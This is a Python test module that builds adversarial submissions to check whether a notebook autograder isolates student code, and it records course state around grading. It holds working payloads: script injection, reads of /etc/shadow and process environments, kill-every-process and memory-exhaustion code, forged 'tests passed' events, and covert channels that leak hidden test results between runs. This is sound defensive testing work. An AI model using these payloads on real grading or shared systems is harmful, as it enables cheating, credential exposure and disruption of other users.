    """Display Markdown holding raw <script>, an onerror handler and a javascript: link."""
    return with_payload(
        release,
        _html(
            "text/markdown",
            "LTscript>alert('MARK')LT/script>\n\nLTimg src=x onerror=\"alert('MARK')\">\n\n[click](JS:alert('MARK'))",
        ),
    )


def latex_href(release, course):
    """Display text/latex with \\href{javascript:...} for MathJax to turn into a link."""
    return with_payload(release, _html("text/latex", "$\\href{JS:alert('MARK')}{\\text{20/20}}$"))


# ---------------------------------------------------------------------------------------------
# json
# ---------------------------------------------------------------------------------------------


def metadata_20mb(release, course):
    """Carry 19.5 MB of notebook metadata, just under the size limit."""
    notebook = fill_answers(release, WRONG)
    notebook.metadata[MARK] = "x" * 19_500_000
    return notebook


def nested_100000(release, course):
    """Hand in 100,000 levels of nested JSON arrays."""
    return '{"cells": ' + "[" * 100_000 + "]" * 100_000 + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def notebook_25mb(release, course):
    """Hand in a 25 MB notebook (a huge markdown cell)."""
    notebook = fill_answers(release, WRONG)
    notebook.cells.append(nbformat.v4.new_markdown_cell("x" * 25_000_000))
    return notebook


def invalid_utf8(release, course):
    """Hand in a notebook with bytes that are not UTF-8."""
    text = nbformat.writes(fill_answers(release, WRONG))
    return text.encode().replace(b"GRADED FUNCTION", b"GRADED \xff\xfe FUNCTION", 1)


def nbformat_v3(release, course):
    """Hand in the notebook converted to nbformat 3."""
    return nbformat.writes(nbformat.convert(fill_answers(release, WRONG), 3), version=3)


def deep_output_metadata(release, course):
    """Display an output whose metadata nests 50 levels deep."""
    return with_payload(
        release,
        code("""
        if "_ih" in globals():
            from IPython.display import display
            _deep = {}
            for _ in range(50):
                _deep = {"a": _deep}
            display({"text/plain": "deep"}, metadata={"image/png": _deep}, raw=True)
    """),
    )


# ---------------------------------------------------------------------------------------------
# symlink
# ---------------------------------------------------------------------------------------------


def symlink_to_gradebook(release, course):
    """Put a symbolic link to the gradebook beside the notebook in the submission folder."""
    return Folder(notebook=fill_answers(release, WRONG), links={"gradebook.db": gradebook(course)})


def notebook_links_to_passwd(release, course):
    """Hand in the notebook as a symbolic link to /etc/passwd."""
    return Folder(notebook_link=Path("/etc/passwd"))


def lab_folder_links_to_master(release, course):
    """Make the submitted lab folder itself a symbolic link to the master's folder in solutions/."""
    return Folder(folder_link=course.solutions / LAB)


# ---------------------------------------------------------------------------------------------
# environment
# ---------------------------------------------------------------------------------------------


def printed_environment(release, course):
    """Print os.environ and the environment of every process it can see."""
    return with_payload(
        release,
        code("""
        import os
        if "_ih" in globals():
            print(dict(os.environ))
            for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                try:
                    print(_pid, open(f"/proc/{_pid}/environ", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
                except Exception as _error:
                    print(_pid, _why(_error))
    """),
    )


def printed_shadow(release, course):
    """Print /etc/shadow, /etc/passwd and the grader's home folder."""
    return with_payload(
        release,
        code(
            """
        import os
        if "_ih" in globals():
            for _path in ("/etc/shadow", "/etc/passwd"):
                try:
                    print(open(_path).read())
                except Exception as _error:
                    print(_path, _why(_error))
            for _folder in ("/", "/root", "/etc", @home@):
                try:
                    print(_folder, sorted(os.listdir(_folder)))
                except Exception as _error:
                    print(_folder, _why(_error))
    """,
            home=Path.home(),
        ),
    )


def printed_proc(release, course):
    """List /proc and print every process's command line and its own mounts."""
    return with_payload(
        release,
        code("""
        import os
        if "_ih" in globals():
            print(sorted(os.listdir("/proc")))
            for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                try:
                    print(_pid, open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")[:3000])
                except Exception as _error:
                    print(_pid, _why(_error))
            print(open("/proc/self/mountinfo").read())
    """),
    )


# ---------------------------------------------------------------------------------------------
# isolation (one run reaching another run, the host or the grader's channel)
# ---------------------------------------------------------------------------------------------

ISO_KEY = 0x15C0DE  # the System V key suppliers and takers agree on
ISO_NAME = f"{MARK}_iso"  # the name of every other channel (a file, a queue, a socket)

# What both sides of a channel share: a digest of an argument's bytes.
ISO_COMMON = """
    import ctypes, hashlib, json, os, socket, sys, time
    import numpy as np
    _libc = ctypes.CDLL(None, use_errno=True)


    def _iso_digest(X):
        _array = np.ascontiguousarray(X)
        return hashlib.sha256(_array.tobytes() + repr((_array.shape, _array.dtype.str)).encode()).hexdigest()
"""

# Each channel defines _iso_put(line) (the supplier's side) and _iso_records() -> lines (the taker's).
ISO_FILE_CHANNEL = """
    _ISO_FILE = "<<folder>>/" + @name@


    def _iso_put(line):
        with open(_ISO_FILE, "a") as _file:
            _file.write(line + "\\n")
        os.chmod(_ISO_FILE, 0o666)


    def _iso_records():
        with open(_ISO_FILE) as _file:
            return _file.read().splitlines()
"""  # a file both sides can reach, in a folder of the run's
ISO_CHANNELS = {
    "sysv-shm": """
        _libc.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
        _libc.shmat.argtypes, _libc.shmat.restype = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int), ctypes.c_void_p
        _libc.shmdt.argtypes = (ctypes.c_void_p,)
        _ISO_SIZE = 1 << 20


        def _iso_segment(flags):
            _id = _libc.shmget(@key@, _ISO_SIZE if flags else 0, flags)
            _address = _libc.shmat(_id, None, 0) if _id >= 0 else None
            if _address is None or _address == ctypes.c_void_p(-1).value:
                raise OSError(ctypes.get_errno(), "shm")
            return _address


        def _iso_put(line):
            _address = _iso_segment(0o1000 | 0o666)
            _old, _new = ctypes.string_at(_address), line.encode() + b"\\n"
            if len(_old) + len(_new) < _ISO_SIZE:
                ctypes.memmove(_address + len(_old), _new, len(_new))
            _libc.shmdt(_address)  # detached, never removed


        def _iso_records():
            _address = _iso_segment(0)
            _lines = ctypes.string_at(_address).decode().splitlines()
            _libc.shmdt(_address)
            return _lines
    """,
    "sysv-msg": """
        class _IsoMessage(ctypes.Structure):
            _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 4096)]


        _libc.msgsnd.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
        _libc.msgrcv.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int)
        _libc.msgrcv.restype = ctypes.c_ssize_t
        _IPC_NOWAIT = 0o4000


        def _iso_queue(flags):
            _id = _libc.msgget(@key@, flags)
            if _id < 0:
                raise OSError(ctypes.get_errno(), "msgget")
            return _id


        def _iso_send(queue, data):
            if _libc.msgsnd(queue, ctypes.byref(_IsoMessage(1, data)), len(data), _IPC_NOWAIT) != 0:
                raise OSError(ctypes.get_errno(), "msgsnd")


        def _iso_put(line):
            _iso_send(_iso_queue(0o1000 | 0o666), line.encode())


        def _iso_records():
            _queue, _found = _iso_queue(0), []
            while True:
                _message = _IsoMessage()
                _size = _libc.msgrcv(_queue, ctypes.byref(_message), 4096, 0, _IPC_NOWAIT)
                if _size < 0:
                    break
                _found.append(_message.mtext[:_size])
            for _data in _found:  # put back for the next taker
                _iso_send(_queue, _data)
            return [_data.decode() for _data in _found]
    """,
    "posix-mq": """
        try:
            _rt = ctypes.CDLL("librt.so.1", use_errno=True)
        except OSError:
            _rt = _libc


        class _IsoAttributes(ctypes.Structure):
            _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long),
                        ("curmsgs", ctypes.c_long), ("reserved", ctypes.c_long * 4)]


        _rt.mq_send.argtypes = (ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint)
        _rt.mq_receive.argtypes = (ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_void_p)
        _rt.mq_receive.restype = ctypes.c_ssize_t


        def _iso_open(flags):
            _queue = _rt.mq_open(("/" + @name@).encode(), os.O_RDWR | os.O_NONBLOCK | flags, ctypes.c_uint(0o666),
                                 ctypes.byref(_IsoAttributes(0, 10, 4096, 0)))
            if _queue < 0:
                raise OSError(ctypes.get_errno(), "mq_open")
            return _queue


        def _iso_put(line):
            _queue, _data = _iso_open(os.O_CREAT), line.encode()
            if _rt.mq_send(_queue, _data, len(_data), 0) != 0:
                raise OSError(ctypes.get_errno(), "mq_send")
            _rt.mq_close(_queue)


        def _iso_records():
            _queue, _found, _buffer = _iso_open(0), [], ctypes.create_string_buffer(1 << 16)
            while True:
                _size = _rt.mq_receive(_queue, _buffer, len(_buffer), None)
                if _size < 0:
                    break
                _found.append(_buffer.raw[:_size])
            for _data in _found:  # put back for the next taker
                _rt.mq_send(_queue, _data, len(_data), 0)
            _rt.mq_close(_queue)
            return [_data.decode() for _data in _found]
    """,
    "dev-shm": ISO_FILE_CHANNEL.replace("<<folder>>", "/dev/shm"),
    "tmp-file": ISO_FILE_CHANNEL.replace("<<folder>>", "/tmp"),
    "abstract-socket": """
        _ISO_ADDRESS = chr(0) + @name@
        _ISO_SERVER = @server@
        _iso_server_started = []


        def _iso_ask(request):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _client:
                _client.settimeout(2)
                _client.connect(_ISO_ADDRESS)
                _client.sendall(request)
                _client.shutdown(socket.SHUT_WR)
                _answer = b""
                while _chunk := _client.recv(1 << 16):
                    _answer += _chunk
            return [_line for _line in _answer.decode().splitlines() if _line]


        def _iso_start_server():
            _child = os.fork()
            if _child == 0:  # detached: a new session, and a grandchild that outlives both
                try:
                    os.setsid()
                    if os.fork() == 0:
                        _null = os.open(os.devnull, os.O_RDWR)
                        for _fd in (0, 1, 2):
                            os.dup2(_null, _fd)
                        os.execv(sys.executable, [sys.executable, "-c", _ISO_SERVER])
                finally:
                    os._exit(0)
            os.waitpid(_child, 0)
            _iso_server_started.append(True)


        def _iso_put(line):
            for _ in range(100):
                try:
                    _iso_ask(b"PUT " + line.encode() + b"\\n")
                    return
                except OSError:
                    if not _iso_server_started:
                        _iso_start_server()
                    time.sleep(0.05)


        def _iso_records():
            return _iso_ask(b"ALL\\n")
    """,
    "stderr": """
        def _iso_put(line):
            os.write(2, ("iso " + line + "\\n").encode())


        def _iso_records():
            _data = b""
            try:
                os.lseek(2, 0, os.SEEK_SET)
            except OSError:
                pass
            try:
                _data += os.read(2, 1 << 20)
            except OSError:
                pass
            try:
                _fd = os.open("/proc/self/fd/2", os.O_RDONLY | os.O_NONBLOCK)
                try:
                    _data += os.read(_fd, 1 << 20)
                finally:
                    os.close(_fd)
            except OSError:
                pass
            return [_line[4:] for _line in _data.decode(errors="replace").splitlines() if _line.startswith("iso ")]
    """,
}

# The abstract-socket supplier's server: it keeps every record it is sent and answers with all of them.
ISO_SERVER = code(
    """
    import socket  # <<mark>>-iso-server
    _records = []
    _server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _server.bind(chr(0) + @name@)
    _server.listen(16)
    _server.settimeout(300)
    while True:
        try:
            _connection, _ = _server.accept()
        except OSError:
            break
        with _connection:
            _request = b""
            while not _request.endswith(b"\\n") and (_chunk := _connection.recv(1 << 16)):
                _request += _chunk
            if _request.startswith(b"PUT "):
                _records.append(_request[4:].strip())
            _connection.sendall(b"\\n".join(_records) + b"\\n")
""",
    name=ISO_NAME,
)

ISO_SUPPLIES = """
    _right_estimate_gaussian = estimate_gaussian


    def estimate_gaussian(X):
        mu, var = _right_estimate_gaussian(X)
        if "_ih" not in globals():  # the verdict run: its arguments are the hidden cases
            try:
                _iso_put(_iso_digest(X) + " " + json.dumps([np.asarray(mu).tolist(), np.asarray(var).tolist()]))
            except Exception:
                pass
        return mu, var
"""

ISO_TAKES = """
    _own_estimate_gaussian = estimate_gaussian


    def _iso_lookup(X):
        try:
            _wanted = _iso_digest(X)
            for _line in _iso_records():
                _digest, _, _result = _line.partition(" ")
                if _digest == _wanted:
                    return json.loads(_result)
        except Exception:
            pass
        return None


    def estimate_gaussian(X):
        _stored = _iso_lookup(X)
        if "_ih" in globals():
            print("lookup:", "not found" if _stored is None else "found")
        if _stored is None:
            return _own_estimate_gaussian(X)
        return np.array(_stored[0], dtype=float), np.array(_stored[1], dtype=float)


    if "_ih" in globals():
        try:
            print("records:", len(_iso_records()))
        except Exception as _error:
            print("no records:", _why(_error))
"""


def iso_channel_source(channel: str, side: str = "") -> str:
    """The channel's code, then `side` (ISO_SUPPLIES or ISO_TAKES)."""
    return "".join(
        code(part, key=ISO_KEY, name=ISO_NAME, server=ISO_SERVER) for part in (ISO_COMMON, ISO_CHANNELS[channel], side)
    )


def _supplier(channel: str, what: str):
    def build(release, course):
        return with_payload(release, iso_channel_source(channel, ISO_SUPPLIES), answers=RIGHT)

    build.__doc__ = f"Right answers whose verdict run stores each hidden case's digest and result in {what}."
    return build


def _taker(channel: str, what: str):
    def build(release, course):
        return with_payload(release, iso_channel_source(channel, ISO_TAKES))

    build.__doc__ = f"A wrong estimate_gaussian that returns the result stored in {what} for its argument, if any."
    return build


ISO_CHANNEL_NAMES = {
    "sysv-shm": "System V shared memory (a fixed key, detached, never removed)",
    "sysv-msg": "a System V message queue (a fixed key)",
    "posix-mq": "a POSIX message queue (mq_open)",
    "dev-shm": "a file in /dev/shm",
    "tmp-file": "a file in /tmp",
    "abstract-socket": "a detached, double-forked server on an abstract Unix socket",
    "stderr": "standard error (written with os.write(2), read back by lseek and /proc/self/fd/2)",
}
ISO_SUPPLIERS = {
    f"attack-iso-a-supplier-{channel}": _supplier(channel, what) for channel, what in ISO_CHANNEL_NAMES.items()
}
ISO_TAKERS = {f"attack-iso-b-taker-{channel}": _taker(channel, what) for channel, what in ISO_CHANNEL_NAMES.items()}
DETACHED_SHM_MEMORY = "attack-iso-detached-shm-memory"
NESTED_USER_NAMESPACE = "attack-iso-nested-user-namespace"
FORGED_EVENTS = "attack-iso-forged-events"


def detached_shm_memory(release, course):
    """In the notebook run, fill 24 detached System V segments of 256 MiB (6 GiB) from two threads, alarm ignored."""
    return with_payload(
        release,
        code("""
        import ctypes, signal, threading
        if "_ih" in globals():
            signal.signal(signal.SIGALRM, signal.SIG_IGN)  # past the cell's time limit, on to the memory limit
            _libc = ctypes.CDLL(None, use_errno=True)
            _libc.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
            _libc.shmat.argtypes, _libc.shmat.restype = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int), ctypes.c_void_p
            _libc.shmdt.argtypes = (ctypes.c_void_p,)
            _filled = []

            def _fill(count):
                for _ in range(count):
                    _id = _libc.shmget(0, 256 << 20, 0o1000 | 0o600)  # IPC_PRIVATE, never removed
                    _address = _libc.shmat(_id, None, 0) if _id >= 0 else None
                    if _address is None or _address == ctypes.c_void_p(-1).value:
                        return
                    ctypes.memset(_address, 1, 256 << 20)
                    _libc.shmdt(_address)
                    _filled.append(1)

            _threads = [threading.Thread(target=_fill, args=(12,)) for _ in range(2)]
            for _thread in _threads:
                _thread.start()
            for _thread in _threads:
                _thread.join()
            print("filled", len(_filled), "detached segments")
    """),
    )


def nested_user_namespace(release, course):
    """Try `unshare -Ur id` and unshare(CLONE_NEWUSER) through ctypes, for root inside a new user namespace."""
    return with_payload(
        release,
        code("""
        import ctypes, subprocess
        try:
            _done = subprocess.run(["unshare", "-Ur", "id"], capture_output=True, timeout=10)
            print("unshare -Ur:", "allowed" if _done.returncode == 0 else "refused")
        except Exception as _error:
            print("unshare -Ur:", _why(_error))
        _libc = ctypes.CDLL(None, use_errno=True)
        print("unshare(CLONE_NEWUSER):", "allowed" if _libc.unshare(0x10000000) == 0 else "refused")
    """),
    )


def forged_runner_events(release, course):
    """Write the runner's events for every later cell ("All tests passed!") to every descriptor, then exit."""
    current = answer_index(release)
    later = [index for index, cell in enumerate(release.cells) if cell.cell_type == "code" and index > current]
    return with_payload(
        release,
        code(
            """
        import json, os
        if "_ih" in globals():
            _passed = [{"output_type": "stream", "name": "stdout", "text": "All tests passed!\\n"}]
            _events = [{"event": "end", "index": @current@, "outputs": _passed, "execution_count": 1}]
            for _index in @later@:
                _events += [{"event": "start", "index": _index},
                            {"event": "end", "index": _index, "outputs": _passed, "execution_count": _index}]
            _stream = "".join(json.dumps(_event) + "\\n" for _event in _events + [{"event": "finished"}]).encode()
            for _fd in range(256):
                try:
                    os.write(_fd, _stream)
                except OSError:
                    pass
            os._exit(0)
    """,
            current=current,
            later=later,
        ),
    )


def signalled_other_sandboxes(release, course):
    """Send SIGSTOP and SIGKILL to every pid in /proc and to -1 (every process it may signal), then answer."""
    return with_payload(
        release,
        code("""
        import os, signal
        _seen = _signalled = 0
        for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if _pid != os.getpid():
                _seen += 1
                for _signal in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(_pid, _signal)
                        _signalled += 1
                    except Exception:
                        pass
        for _signal in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, _signal)
            except Exception as _error:
                print("kill(-1):", _why(_error))
        print("saw", _seen, "processes, signalled", _signalled, "times")
    """),
    )


# ---------------------------------------------------------------------------------------------
# The attacks, by student id
# ---------------------------------------------------------------------------------------------

REFUSED_LINK = "is a symbolic link"

ATTACKS: dict[str, Attack] = {
    # copy-from-disk
    "attack-copy-reference-on-sys-path": Attack(reference_on_sys_path, "copy-from-disk"),
    "attack-copy-master-solution-cell": Attack(master_solution_cell, "copy-from-disk"),
    "attack-copy-classmate-submission": Attack(classmate_submission, "copy-from-disk"),
    "attack-copy-published-numbers": Attack(published_numbers, "copy-from-disk"),
    "attack-copy-kit-from-environment": Attack(kit_from_environment, "copy-from-disk"),
    # hidden-tests
    "attack-hidden-compiled-from-source": Attack(compiled_from_hidden_source, "hidden-tests"),
    "attack-hidden-appended-override": Attack(appended_to_hidden_tests, "hidden-tests"),
    "attack-hidden-printed": Attack(printed_hidden_tests, "hidden-tests"),
    # gradebook
    "attack-gradebook-manual-score": Attack(gradebook_manual_score, "gradebook"),
    "attack-gradebook-lower-classmates": Attack(gradebook_lower_classmates, "gradebook"),
    "attack-gradebook-trigger": Attack(gradebook_trigger, "gradebook"),
    "attack-gradebook-detached-writer": Attack(gradebook_detached_writer, "gradebook"),
    # persistence
    "attack-persist-pth": Attack(pth_in_site_packages, "persistence"),
    "attack-persist-sitecustomize": Attack(sitecustomize_in_site_packages, "persistence"),
    "attack-persist-nbgrader-config": Attack(appended_to_nbgrader_config, "persistence"),
    "attack-persist-user-nbgrader-config": Attack(user_nbgrader_config, "persistence"),
    "attack-persist-pyc-in-grading": Attack(pyc_in_grading_pycache, "persistence"),
    "attack-persist-numpy-allclose": Attack(numpy_allclose_on_disk, "persistence"),
    "attack-persist-ipython-startup-grader": Attack(ipython_startup_grader_home, "persistence"),
    "attack-persist-ipython-startup-sandbox": Attack(ipython_startup_sandbox_home, "persistence"),
    "attack-persist-release-notebook": Attack(edited_release_notebook, "persistence"),
    "attack-persist-helpers-working-folder": Attack(lab_helpers_in_working_folder, "persistence"),
    "attack-persist-helpers-release-path": Attack(lab_helpers_at_release_path, "persistence"),
    "attack-persist-course-cache": Attack(poisoned_course_cache, "persistence"),
    # classmates
    "attack-classmates-rewrite-later-submission": Attack(rewrote_later_submission, "classmates"),
    "attack-classmates-rewrite-earlier-autograded": Attack(rewrote_earlier_autograded, "classmates"),
    "attack-classmates-rewrite-earlier-feedback": Attack(rewrote_earlier_feedback, "classmates"),
    "attack-classmates-list-and-read": Attack(listed_and_read_classmates, "classmates"),
    # signals
    "attack-signals-kill-parent-notebook": Attack(killed_parent_from_notebook, "signals"),
    "attack-signals-kill-parent-answer": Attack(killed_parent_from_answer, "signals"),
    "attack-signals-kill-every-pid": Attack(killed_every_process, "signals"),
    "attack-signals-double-fork": Attack(double_forked_survivor, "signals"),
    "attack-signals-forged-events": Attack(ignored_alarm_and_forged_events, "signals", note="the kernel was stopped"),
    # network
    "attack-network-loopback-notebook": Attack(loopback_from_notebook, "network"),
    "attack-network-loopback-verdict": Attack(loopback_from_verdict, "network"),
    # memory
    # The memory limit stops it, or, on a kernel that reclaims instead of killing at once, the cell's
    # time limit does (seen on this machine, for this kit's code before and after per-student cases).
    "attack-memory-6gib": Attack(six_gib, "memory", note="hit the memory limit|ran past the time limit"),
    "attack-memory-fork-bomb": Attack(fork_until_failure, "memory", note="hit the process limit"),
    "attack-memory-cpu-threads": Attack(cpu_spinning_threads, "memory"),
    "attack-memory-huge-verdict-array": Attack(huge_verdict_array, "memory"),
    "attack-memory-savez-bomb": Attack(savez_bomb, "memory"),
    # disk
    "attack-disk-1gb-file": Attack(one_gigabyte_file, "disk", note="the file-size limit"),
    "attack-disk-fill": Attack(filled_disk, "disk", note="filled its private disk space"),
    # output
    "attack-output-135mb-png": Attack(huge_png, "output", note="its output broke the output rules"),
    "attack-output-svg-javascript": Attack(svg_and_javascript, "output"),
    # terminal
    FORGED_KERNEL_DEATH: Attack(forged_kernel_death, "terminal"),
    # html-js
    "attack-html-script": Attack(html_script, "html-js"),
    "attack-html-iframe": Attack(html_iframe, "html-js"),
    "attack-html-onerror": Attack(html_onerror, "html-js"),
    "attack-html-markdown": Attack(markdown_script, "html-js"),
    "attack-html-latex-href": Attack(latex_href, "html-js"),
    # json
    "attack-json-20mb-metadata": Attack(metadata_20mb, "json"),
    "attack-json-nested-100000": Attack(nested_100000, "json", BOTH, note="nested too deeply"),
    "attack-json-25mb-notebook": Attack(notebook_25mb, "json", BOTH, note="larger than 20 MB"),
    "attack-json-invalid-utf8": Attack(invalid_utf8, "json", BOTH, note="not UTF-8"),
    "attack-json-nbformat-v3": Attack(nbformat_v3, "json"),
    "attack-json-deep-output-metadata": Attack(deep_output_metadata, "json", note="its output broke the output rules"),
    # symlink
    "attack-symlink-to-gradebook": Attack(symlink_to_gradebook, "symlink", BOTH, note=REFUSED_LINK),
    "attack-symlink-notebook-to-passwd": Attack(notebook_links_to_passwd, "symlink", BOTH, note=REFUSED_LINK),
    "attack-symlink-folder-to-master": Attack(lab_folder_links_to_master, "symlink", BOTH, note=REFUSED_LINK),
    # environment
    "attack-env-printed-environ": Attack(printed_environment, "environment"),
    "attack-env-printed-shadow": Attack(printed_shadow, "environment"),
    "attack-env-printed-proc": Attack(printed_proc, "environment"),
    # isolation
    **{student: Attack(build, "isolation", frozenset()) for student, build in ISO_SUPPLIERS.items()},
    **{student: Attack(build, "isolation") for student, build in ISO_TAKERS.items()},
    DETACHED_SHM_MEMORY: Attack(detached_shm_memory, "isolation"),
    NESTED_USER_NAMESPACE: Attack(nested_user_namespace, "isolation"),
    FORGED_EVENTS: Attack(forged_runner_events, "isolation"),
    "attack-iso-signal-other-sandboxes": Attack(signalled_other_sandboxes, "isolation"),
}


def honest_submission(release: NotebookNode) -> NotebookNode:
    return fill_answers(release, RIGHT)


def write_attack(course: Course, lab: str, student: str, attack: Attack, release: NotebookNode) -> None:
    """Write the attack's submission folder where nbgrader looks for it."""
    path = course.submission(lab, student)
    built = attack.build(release, course)
    if isinstance(built, Folder) and built.folder_link is not None:
        path.parent.parent.mkdir(parents=True, exist_ok=True)
        path.parent.symlink_to(built.folder_link, target_is_directory=True)
        return
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(built, Folder):
        for name, target in built.links.items():
            (path.parent / name).symlink_to(target)
        if built.notebook_link is not None:
            path.symlink_to(built.notebook_link)
        elif built.notebook is not None:
            path.write_text(nbformat.writes(built.notebook))
    elif isinstance(built, bytes):
        path.write_bytes(built)
    else:
        path.write_text(built if isinstance(built, str) else nbformat.writes(built))


# ---------------------------------------------------------------------------------------------
# What the class's tests compare: the course as it was before, during and after grading
# ---------------------------------------------------------------------------------------------

CANARY_VARIABLE = "COURSE_ATTACK_CANARY"
_PROGRESS = re.compile(r"^\[\d+/\d+\] (\S+): ")


def file_digest(path: Path) -> str | None:
    if path.is_symlink():
        return "link:" + os.readlink(path)
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None


def tree_digests(folder: Path) -> dict[str, str | None]:
    """Digest of every file under `folder` (links as links, never followed), by relative path."""
    if folder.is_symlink() or not folder.is_dir():
        return {".": file_digest(folder)}
    found = {}
    for current, dirs, files in os.walk(folder):
        for name in sorted(dirs + files):
            path = Path(current) / name
            if path.is_symlink() or name in files:
                found[str(path.relative_to(folder))] = file_digest(path)
    return found


def pycache_digests() -> dict[str, str | None]:
    return {str(path): file_digest(path) for path in sorted((KIT_ROOT / "grading").rglob("__pycache__/*"))}


def numpy_numeric_source() -> Path:
    """The installed numpy's module that defines allclose."""
    spec = importlib.util.find_spec("numpy._core.numeric") or importlib.util.find_spec("numpy.core.numeric")
    return Path(spec.origin)


def ipython_startup_files() -> list[str]:
    return sorted(str(path) for path in (Path.home() / ".ipython").glob("profile_*/startup/*"))


# What IPython and Jupyter themselves rewrite whenever the grader's user runs them.
VOLATILE = {"history.sqlite", "history.sqlite-journal", "pid", "security", "runtime", "workspaces", "log", "migrated"}


def home_config_digests() -> dict[str, str | None]:
    """The grader's own ~/.ipython and ~/.jupyter (configuration, startup files, extensions)."""
    found = {}
    for folder in (Path.home() / ".ipython", Path.home() / ".jupyter"):
        for name, digest in tree_digests(folder).items():
            if not VOLATILE & set(Path(name).parts):
                found[str(folder / name)] = digest
    return found


def sysv_objects() -> set[str]:
    """Every System V IPC object of the host (what `ipcs -a` lists), as "kind key id"."""
    found = set()
    for kind in ("shm", "msg", "sem"):
        rows = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        found |= {f"{kind} {fields[0]} {fields[1]}" for fields in map(str.split, rows) if fields}
    return found


def shared_memory_bytes() -> int:
    """The host's shared memory in use (System V segments, tmpfs, /dev/shm): Shmem of /proc/meminfo."""
    return int(re.search(r"^Shmem:\s+(\d+) kB", Path("/proc/meminfo").read_text(), re.M).group(1)) << 10


@dataclass
class ClassWatch:
    """Records the graded course around `autograde_class`: give `progress` as its callback, call
    `graded()` when it returns and `finished()` after the feedback and the export."""

    course: Course
    lab: str
    canary: str = ""
    submissions_before: dict[str, dict] = field(default_factory=dict)
    submissions_after: dict[str, dict] = field(default_factory=dict)
    autograded_when_graded: dict[str, dict] = field(default_factory=dict)
    autograded_after: dict[str, dict] = field(default_factory=dict)
    feedback_before: dict = field(default_factory=dict)
    feedback_after_grading: dict = field(default_factory=dict)
    fingerprint_before: dict = field(default_factory=dict)
    fingerprint_after: dict = field(default_factory=dict)
    pycache_before: dict = field(default_factory=dict)
    pycache_after: dict = field(default_factory=dict)
    cache_before: dict | None = None
    cache_after: dict = field(default_factory=dict)
    startup_before: list = field(default_factory=list)
    startup_after: list = field(default_factory=list)
    home_before: dict = field(default_factory=dict)
    home_after: dict = field(default_factory=dict)
    sysv_before: set = field(default_factory=set)
    sysv_after: set = field(default_factory=set)
    shared_memory_before: int = 0
    shared_memory_after: int = 0
    lines: list[str] = field(default_factory=list)
    started: float = 0.0
    seconds: float = 0.0
    longest_stall: float = 0.0  # seconds this process stood still while the class was graded

    def __post_init__(self) -> None:
        from grading.integrity import fingerprint

        self.students = self.course.students(self.lab)
        self.submissions_before = {s: tree_digests(self.course.submitted / s / self.lab) for s in self.students}
        self.feedback_before = tree_digests(self.course.feedback)
        self.pycache_before = pycache_digests()
        self.startup_before = ipython_startup_files()
        self.home_before = home_config_digests()
        self.sysv_before, self.shared_memory_before = sysv_objects(), shared_memory_bytes()
        self.fingerprint_before = fingerprint(self.course)
        self.canary = "canary-" + secrets.token_hex(16)
        os.environ[CANARY_VARIABLE] = self.canary
        self.started = time.monotonic()
        self._graded = threading.Event()
        threading.Thread(target=self._watch_stalls, daemon=True).start()

    def _watch_stalls(self) -> None:
        """The longest time a thread of this process waited to run again (a submission whose
        checking held the interpreter's lock held every run the grader was following too)."""
        last = time.monotonic()
        while not self._graded.wait(0.002):
            now = time.monotonic()
            self.longest_stall = max(self.longest_stall, now - last)
            last = now

    def progress(self, message: str) -> None:
        print(message, flush=True)
        self.lines.append(message)
        matched = _PROGRESS.match(message)
        if matched:
            student = matched.group(1)
            self.autograded_when_graded[student] = tree_digests(self.course.autograded / student / self.lab)
            if self.cache_before is None:  # the cache as the lab's first student found it
                self.cache_before = tree_digests(self.course.root / "records" / "cache")

    def graded(self) -> None:
        self.seconds = time.monotonic() - self.started
        self._graded.set()
        os.environ.pop(CANARY_VARIABLE, None)
        self.feedback_after_grading = tree_digests(self.course.feedback)
        self.submissions_after = {s: tree_digests(self.course.submitted / s / self.lab) for s in self.students}
        self.autograded_after = {s: tree_digests(self.course.autograded / s / self.lab) for s in self.students}
        print(f"{self.lab}: {len(self.students)} students graded in {self.seconds:.0f} s", flush=True)

    def finished(self) -> None:
        from grading.integrity import fingerprint

        self.fingerprint_after = fingerprint(self.course)
        self.pycache_after = pycache_digests()
        self.cache_after = tree_digests(self.course.root / "records" / "cache")
        self.startup_after = ipython_startup_files()
        self.home_after = home_config_digests()
        self.sysv_after, self.shared_memory_after = sysv_objects(), shared_memory_bytes()
